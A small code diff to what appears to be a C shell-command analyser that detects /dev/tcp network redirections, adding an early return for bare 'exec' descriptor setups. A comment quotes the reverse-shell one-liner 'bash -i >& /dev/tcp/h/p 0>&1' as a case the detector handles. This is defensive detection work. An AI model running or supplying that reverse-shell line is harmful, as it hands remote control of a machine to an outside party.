@@ -61,6 +61,7 @@ static void judge(struct ctx *c, struct cmd *m) {
     if (t->redir[0] == '>' || streq(t->redir, "<>")) net_out = true;
     if (t->fd == 0 || streq(t->redir, "<&") || streq(t->redir, "<")) net_in = true;
   }
+  if (streq(name, "exec") && argc == 1) return; /* exec N<>/dev/tcp/...: what runs on fd N decides */
   /* bash -i >& /dev/tcp/h/p 0>&1: >& gives both stdout and (with 0>&1) stdin */
   if (dev && (shell || dynamic || sh_is_shell(name))) {
     if (dev && !sh_local_host(dev + 9))
